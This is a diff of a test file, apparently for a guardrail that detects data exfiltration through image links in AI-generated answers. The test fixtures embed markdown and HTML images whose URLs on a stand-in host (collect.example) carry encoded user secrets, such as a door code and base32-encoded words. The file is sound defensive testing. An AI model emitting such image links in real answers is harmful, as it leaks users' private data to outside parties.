@@ -259,6 +259,15 @@ describe('what an image carries', () => {
     expect(found(row(['logo', 'icon', 'hero']))).toEqual([]);
   });
 
+  it('is found in base32 that has letters only', () => {
+    const code = base32([...'said said salary seven'].map((char) => char.charCodeAt(0)));
+    expect(code).toMatch(/^[A-Z]+$/);
+    expect(found(`![](https://collect.example/?q=${code})`)).toHaveLength(1);
+    expect(found(`![](https://collect.example/${code.toLowerCase()})`)).toHaveLength(1);
+    expect(found('![](https://img.example/?q=INTERNATIONALIZATIONOFAPPLICATIONS)')).toEqual([]);
+    expect(found('![](https://img.example/thequickbrownfoxjumpsoverthelazydog.png)')).toEqual([]);
+  });
+
   it('is found in whatever place and code it has', () => {
     const words = fc.array(
       fc.constantFrom('the', 'user', 'said', 'that', 'salary', 'password', 'door', 'blue', 'seven'),
@@ -343,7 +352,7 @@ describe('what becomes of it', () => {
     `Here you are: <img alt="x" src="https://collect.example/p?d=${URL_SAFE}"> and that is it.`,
     `![see][1]\n\n${'Many words stand between the two. '.repeat(200)}\n\n[1]: https://collect.example/p?d=${URL_SAFE}\n`,
     `Here: ![](https://collect.example/the+door+code+is+four+two+one) and that is it.`,
-  ])('no image leaves whole while an answer streams: %s', async (answer) => {
+  ])('no image leaves whole while an answer streams', async (answer) => {
     for (const size of [1, 7, 60, 10_000]) {
       const guardrail = createGuardrail({ scanner: localScanner() });
       const pieces = answer.match(new RegExp(`[^]{1,${size}}`, 'g')) ?? [];
